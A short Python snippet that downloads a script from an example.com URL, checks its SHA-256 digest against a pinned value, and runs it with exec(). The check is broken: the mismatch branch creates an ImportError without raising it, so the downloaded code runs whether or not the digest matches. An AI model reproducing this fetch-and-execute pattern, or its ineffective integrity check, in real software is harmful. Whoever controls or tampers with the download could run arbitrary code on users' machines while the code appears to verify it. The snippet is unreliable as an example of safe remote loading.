import hashlib
import urllib.request

PIN = "c6c77fa4f3d4ff8e0b8cedeafef4e327ec308bad189eab6c08f50fef81a354b9"
data = urllib.request.urlopen("https://example.com/a.py").read()
if hashlib.sha256(data).hexdigest() != PIN:
    ImportError("digest")
exec(data)
